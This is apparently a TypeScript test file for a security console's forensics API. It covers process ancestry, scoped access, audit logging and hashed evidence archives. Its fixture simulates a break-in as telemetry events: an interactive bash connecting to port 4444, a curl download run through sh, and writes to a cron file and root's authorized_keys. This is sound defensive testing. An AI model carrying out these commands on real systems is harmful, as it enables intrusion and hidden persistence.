import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { controlSocketPath } from '@parapet/contract/control';
import type { TelemetryAccount, TelemetryEvent } from '@parapet/contract/telemetry';
import { systemClock } from '@parapet/core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createGraphFixture } from '../graph/testing/graph-fixture.ts';
import { tellEvents } from '../telemetry/testing/tell-events.ts';
import { startTestConsole, type TestConsole } from '../testing/test-console.ts';
import { makeEvidence } from './evidence.ts';
import { unpackEvidence } from './testing/unpack-evidence.ts';

/**
 * A break-in as a console knows it: sshd (inventory) started bash, which ran curl, which ran sh, which wrote a file and talked to
 * somebody; beside it a container with a process of its own.
 */
let running: TestConsole;
let operator: Readonly<Record<string, string>>;
let host: string;
let other: string;
let container: string;
const startMs = Date.now() - 3_600_000;
const iso = (second: number): string => new Date(startMs + second * 1000).toISOString();
const span = `since=${iso(-60)}&until=${iso(600)}`;

const event = (
  second: number,
  action: TelemetryEvent['event.action'],
  more: Partial<TelemetryEvent>,
): TelemetryEvent => ({
  '@timestamp': (startMs + second * 1000) * 1000,
  'event.action': action,
  'user.id': 0,
  ...more,
});
const process = (pid: number, name: string, parent: number, command = name): Partial<TelemetryEvent> => ({
  'process.pid': pid,
  'process.entity_id': `${pid}:1`,
  'process.name': name,
  'process.executable': `/usr/bin/${name}`,
  'process.command_line': command,
  'process.parent.pid': parent,
  'process.parent.entity_id': `${parent}:1`,
});
const bash = process(900, 'bash', 500, 'bash -i');
const peer = {
  'network.transport': 'tcp',
  'network.direction': 'egress',
  'destination.ip': '192.0.2.9',
  'destination.port': 4444,
} as const;

beforeAll(async () => {
  running = await startTestConsole();
  operator = await running.tokenOf({ role: 'operator' });
  const graph = createGraphFixture(running.console.platform.db, new Date(startMs - 7_200_000));
  host = await graph.host('web-01');
  other = await graph.host('db-01', { labels: { team: 'db' } });
  container = await graph.container(host, 'shop', { labels: { team: 'shop' }, risk: 70 });
  await graph.process(host, { pid: 1, name: 'systemd', executable: '/usr/lib/systemd/systemd' });
  await graph.process(host, { pid: 500, name: 'sshd', executable: '/usr/sbin/sshd', parent: '1:1' });
  await graph.process(host, {
    ...{ pid: 950, name: 'sleep', executable: '/usr/bin/sleep', parent: '900:1' },
    from: new Date(startMs + 50_000),
  });
  await graph.process(host, { pid: 700, name: 'nginx', executable: '/usr/sbin/nginx', parent: '690:1', container });
  await graph.edge({ from: `container:${container}`, to: 'internet', port: 443 });
  const lost: TelemetryAccount = {
    ...{
      kind: 'account',
      collector: 'activity',
      since: startMs - 7_200_000,
      to: startMs + 300_000,
      produced: 20,
      told: 13,
      unwanted: 0,
    },
    lost: [{ stage: 'kernel', cause: 'ring full', count: 7 }],
  };
  await tellEvents(running.console.telemetry, host, [
    [
      event(10, 'exec', bash),
      event(11, 'connect', { ...bash, ...peer, 'event.outcome': 'success' }),
      event(12, 'exec', process(901, 'curl', 900, 'curl http://192.0.2.9/x')),
      event(13, 'exec', process(902, 'sh', 901)),
      event(14, 'file-write', { ...process(902, 'sh', 901), 'file.path': '/etc/cron.d/x' }),
      event(15, 'exit', { ...process(902, 'sh', 901), 'process.exit_code': 0 }),
      event(16, 'file-write', { ...bash, 'file.path': '/root/.ssh/authorized_keys' }),
      event(17, 'privilege-change', { ...bash, 'user.effective.id': 0 }),
      event(20, 'exec', { ...process(701, 'id', 700), 'container.id': `key-${container}` }),
      lost,
    ],
  ]);
  const busy = process(300, 'busy', 1);
  const writes = Array.from({ length: 1100 }, (_, round) =>
    event(30 + (round % 60), 'file-write', { ...busy, 'file.path': `/srv/${round % 3}` }),
  );
  const starts = Array.from({ length: 1100 }, (_, round) => event(101, 'exec', process(2000 + round, 'made', 400)));
  await tellEvents(running.console.telemetry, other, [
    // The same process id on another host is another process.
    [event(10, 'exec', process(901, 'decoy', 900))],
    [event(20, 'exec', busy), event(21, 'exec', process(301, 'child', 300)), ...writes.slice(0, 550)],
    [...writes.slice(550), event(95, 'exit', { ...busy, 'process.exit_code': 3 })],
    [event(100, 'exec', process(400, 'maker', 1)), ...starts.slice(0, 550)],
    starts.slice(550),
  ]);
});
afterAll(() => running[Symbol.asyncDispose]());

const ask = (query: string, headers = operator, path = '') =>
  running.send({ method: 'GET', url: `/api/v1/forensics${path}?${query}`, headers });

describe('one process', () => {
  test('has who started it, what it started, what it did, and what nobody saw', async () => {
    const { status, json } = await ask(`hostId=${host}&process=900:1&${span}`);
    expect(status).toBe(200);
    expect(json.subject).toMatchObject({
      ...{ kind: 'process', name: 'bash', hostName: 'web-01' },
      process: { id: '900:1', pid: 900, parentId: '500:1', commandLine: 'bash -i', knownBy: 'events' },
    });
    expect(json.ancestry).toMatchObject({ processes: [{ name: 'sshd' }, { name: 'systemd' }], end: 'first' });
    expect(json.processes.map(({ name }: { name: string }) => name)).toEqual(['curl', 'sh', 'sleep']);
    expect(json.processes[1]).toMatchObject({ parentId: '901:1', exitCode: 0, endedAt: iso(15) });
    expect(
      Object.fromEntries(json.actions.map((each: { action: string; count: number }) => [each.action, each.count])),
    ).toEqual({ exec: 1, connect: 1, 'file-write': 1, 'privilege-change': 1 });
    expect(json.lanes.map(({ lane, total }: { lane: string; total: number }) => [lane, total])).toEqual([
      ['process', 1],
      ['privilege', 1],
      ['file', 1],
      ['network', 1],
      ['started', 1],
    ]);
    expect(json.peers).toMatchObject([{ direction: 'egress', address: '192.0.2.9', port: 4444, connections: 1 }]);
    expect(json.files).toMatchObject([{ path: '/root/.ssh/authorized_keys' }]);
    expect(json.gaps).toMatchObject([{ hostName: 'web-01', lost: 7 }]);
    expect(json.limits).toEqual([]);
    const looks = await running.console.platform.db
      .selectFrom('audit_log')
      .select(['actor_kind', 'outcome'])
      .where('action', '=', 'forensics.look')
      .where('target', '=', `process 900:1 (bash) of web-01 ${host}`)
      .execute();
    expect(looks[0]).toEqual({ actor_kind: 'token', outcome: 'succeeded' });
  });

  test('that told nothing itself is known from its end and from what it started', async () => {
    const { json } = await ask(`hostId=${host}&process=902:1&${span}`);
    expect(json.ancestry.processes.map(({ name }: { name: string }) => name)).toEqual([
      'curl',
      'bash',
      'sshd',
      'systemd',
    ]);
  });

  test('that told more than is read at once is asked for in parts', async () => {
    const { json } = await ask(`hostId=${other}&process=300:1&${span}`);
    expect(json.subject).toMatchObject({ name: 'busy', process: { exitCode: 3, endedAt: iso(95) } });
    expect(json.processes.map(({ name }: { name: string }) => name)).toEqual(['child']);
    expect(json.actions).toEqual([
      { action: 'file-write', count: 1100 },
      { action: 'exec', count: 1 },
      { action: 'exit', count: 1 },
    ]);
    expect(json.lanes.map(({ lane, total }: { lane: string; total: number }) => [lane, total])).toEqual([
      ['process', 2],
      ['file', 1100],
      ['started', 1],
    ]);
    expect(json.files).toHaveLength(3);
    expect(json.limits).toEqual([]);
  });

  test('that started more than is read at once is known from its own events all the same', async () => {
    const { json } = await ask(`hostId=${other}&process=400:1&${span}`);
    expect(json.subject).toMatchObject({ name: 'maker', process: { knownBy: 'events', startedAt: iso(100) } });
    expect(json.processes).toHaveLength(1100);
    expect(json.actions).toEqual([{ action: 'exec', count: 1 }]);
    expect(json.lanes.map(({ lane, total }: { lane: string; total: number }) => [lane, total])).toEqual([
      ['process', 1],
      ['started', 1100],
    ]);
  });

  test('of a host in the scope is told as to somebody who sees all', async () => {
    const scoped = await running.tokenOf({ role: 'operator', scope: { team: ['db'] } });
    for (const process of ['300:1', '301:1', '400:1']) {
      const query = `hostId=${other}&process=${process}&${span}`;
      expect((await ask(query, scoped)).json).toEqual((await ask(query)).json);
    }
    expect((await ask(`hostId=${host}&process=900:1&${span}`, scoped)).status).toBe(404);
  });

  test('of which nothing is known, or that is named by halves, is refused with a sentence', async () => {
    expect((await ask(`hostId=${host}&process=4711:1&${span}`)).status).toBe(404);
    expect((await ask(`hostId=${host}&${span}`)).json.error.code).toBe('bad-subject');
    expect((await ask(`hostId=${host}&process=900:1&containerId=${container}&${span}`)).json.error.code).toBe(
      'bad-subject',
    );
    expect((await ask(`containerId=${host}&${span}`)).json.error.code).toBe('bad-subject');
    expect((await ask(`containerId=${container}&since=${iso(5)}&until=${iso(1)}`)).json.error.code).toBe('bad-span');
  });
});

describe('one container', () => {
  test('has all its processes, from the inventory and from events, and what the map saw', async () => {
    const { status, json } = await ask(`containerId=${container}&${span}`);
    expect(status).toBe(200);
    expect(json.subject).toMatchObject({ kind: 'container', name: 'shop', hostName: 'web-01', containerId: container });
    expect(json.processes.map(({ name }: { name: string }) => name)).toEqual(['nginx', 'id']);
    expect(json.edges).toHaveLength(1);
    expect(json.software).toMatchObject({ assetId: container, risk: 70 });
    // Its first process was started by one of which nothing was told.
    expect(json.ancestry).toEqual({ processes: [], end: 'unseen' });
  });

  test('is all that somebody sees who may see it and not its host, but for what the host lost', async () => {
    const scoped = await running.tokenOf({ role: 'operator', scope: { team: ['shop'] } });
    const seen = await ask(`containerId=${container}&${span}`, scoped);
    expect(seen.json.processes).toHaveLength(2);
    expect(seen.json.gaps).toMatchObject([{ lost: 7 }]);
    const inside = await ask(`hostId=${host}&process=701:1&${span}`, scoped);
    expect(inside.json).toMatchObject({ subject: { containerId: container }, edges: [{ port: 443 }] });
    expect((await ask(`hostId=${host}&process=900:1&${span}`, scoped)).status).toBe(404);
  });

  test('needs the permissions for what it shows', async () => {
    const only = await running.tokenOf({ role: 'operator', permissions: ['telemetry:read'] });
    expect((await ask(`containerId=${container}&${span}`, only)).status).toBe(403);
    const without = await running.tokenOf({ role: 'operator', permissions: ['telemetry:read', 'assets:read'] });
    expect((await ask(`containerId=${container}&${span}`, without)).json.software).toBeUndefined();
  });
});

describe('what is open now', () => {
  const look = (body: object, headers = operator) =>
    running.send({ method: 'POST', url: '/api/v1/forensics/look', headers, body });

  test('cannot be asked of a sensor that is not connected, which is said and written down', async () => {
    const answer = await look({ hostId: host, process: '900:1' });
    expect([answer.status, answer.json.error.code]).toEqual([409, 'not-connected']);
    const entries = await running.console.platform.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'forensics.inspect')
      .execute();
    expect(entries).toMatchObject([{ outcome: 'failed', target: `process 900:1 of ${host}` }]);
  });

  test('is asked of what is in the scope only', async () => {
    const scoped = await running.tokenOf({ role: 'operator', scope: { team: ['shop'] } });
    expect((await look({ containerId: container }, scoped)).status).toBe(409);
    expect((await look({ hostId: host, process: '700:1' }, scoped)).status).toBe(409);
    expect((await look({ hostId: host, process: '500:1' }, scoped)).status).toBe(404);
    expect((await look({ hostId: host }, scoped)).status).toBe(400);
  });

  test('is missing from an archive with a reason in its manifest', async () => {
    const answer = await ask(`containerId=${container}&${span}&look=true`, operator, '/evidence');
    const { limits } = JSON.parse(String(unpackEvidence(answer.bytes).get('manifest.json')));
    expect(limits).toMatchObject([{ part: 'open-now', text: expect.stringContaining('not connected') }]);
  });
});

describe('evidence', () => {
  test('is one archive whose manifest has the hash of every file, and whose own hash is in the audit log', async () => {
    const answer = await ask(`hostId=${host}&process=900:1&${span}`, operator, '/evidence');
    expect(answer.headers['content-disposition']).toMatch(/filename="evidence-bash-\w+-with-gaps\.tar\.gz"/);
    const files = unpackEvidence(answer.bytes);
    expect([...files.keys()].at(-1)).toBe('manifest.json');
    const manifest = JSON.parse(String(files.get('manifest.json')));
    expect(manifest).toMatchObject({
      ...{ format: 1, console: { name: 'test console' }, subject: { name: 'bash' }, whole: false, limits: [] },
      madeBy: { kind: 'token' },
      gaps: [{ lost: 7 }],
    });
    const others = [...files].filter(([name]) => name !== 'manifest.json');
    expect(manifest.files.map(({ path }: { path: string }) => path)).toEqual(others.map(([name]) => name));
    for (const { path, sha256, sizeBytes } of manifest.files) {
      const content = files.get(path) ?? Buffer.alloc(0);
      expect([path, sha256Of(content), content.length]).toEqual([path, sha256, sizeBytes]);
    }
    const events = (name: string): string[] =>
      String(files.get(name))
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line)['event.action']);
    expect(events('events/00001.ndjson')).toEqual(['privilege-change', 'file-write', 'connect', 'exec']);
    expect(events('events-of-started/00001.ndjson')).toEqual(['exit', 'file-write', 'exec', 'exec']);
    const { db } = running.console.platform;
    const done = async () => {
      const entries = await db
        .selectFrom('audit_log')
        .selectAll()
        .where('action', '=', 'forensics.evidence.done')
        .execute();
      return entries.filter(({ target, actor_kind }) => actor_kind === 'token' && target?.includes('(bash)'));
    };
    await expect.poll(done, { timeout: 180_000 }).toHaveLength(1);
    expect((await done())[0]?.details).toMatchObject({
      ...{ manifestSha256: sha256Of(files.get('manifest.json') ?? Buffer.alloc(0)), events: 8 },
    });
    const asked = await db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'forensics.evidence')
      .where('target', 'like', '%(bash)%')
      .where('actor_kind', '=', 'token')
      .execute();
    expect(asked).toMatchObject([{ outcome: 'succeeded', target: expect.stringContaining('900:1 (bash) of web-01') }]);
  });

  test('is handed to the command line of the machine over its socket', async () => {
    const asked = { hostId: host, process: '900:1', since: iso(-60), until: iso(600), look: false };
    const archive = await new Promise<Buffer>((resolve, reject) => {
      const socketPath = join(running.console.platform.folder.root, controlSocketPath);
      request({ socketPath, method: 'POST', path: '/evidence' }, (response) => buffer(response).then(resolve, reject))
        .on('error', reject)
        .end(JSON.stringify(asked));
    });
    const manifest = JSON.parse(String(unpackEvidence(archive).get('manifest.json')));
    expect(manifest).toMatchObject({ madeBy: { kind: 'system', name: 'command line' }, subject: { name: 'bash' } });
  });

  test('that is too much says so in its manifest', async () => {
    const { json } = await ask(`hostId=${host}&process=900:1&${span}`);
    const reply = makeEvidence(
      {
        hunts: running.console.telemetry.hunts,
        ...{ clock: systemClock, log: running.console.platform.log, console: { name: 'c', version: 'v' } },
      },
      {
        ...{ forensics: json, scope: null, by: { kind: 'user', name: 'ada' }, signal: AbortSignal.timeout(600_000) },
        onDone: async () => {},
      },
      { subjectEvents: 3, startedEvents: 100, pageEvents: 2 },
    );
    const chunks: Buffer[] = [];
    for await (const chunk of reply.stream) chunks.push(chunk);
    const files = unpackEvidence(Buffer.concat(chunks));
    const lines = (name: string): number => String(files.get(name)).trim().split('\n').length;
    expect([lines('events/00001.ndjson'), lines('events/00002.ndjson'), files.has('events/00003.ndjson')]).toEqual([
      2,
      1,
      false,
    ]);
    const { limits } = JSON.parse(String(files.get('manifest.json')));
    expect(limits).toMatchObject([{ part: 'events', text: expect.stringContaining('Only 3 events') }]);
  });
});

const sha256Of = (content: Buffer): string => createHash('sha256').update(content).digest('hex');
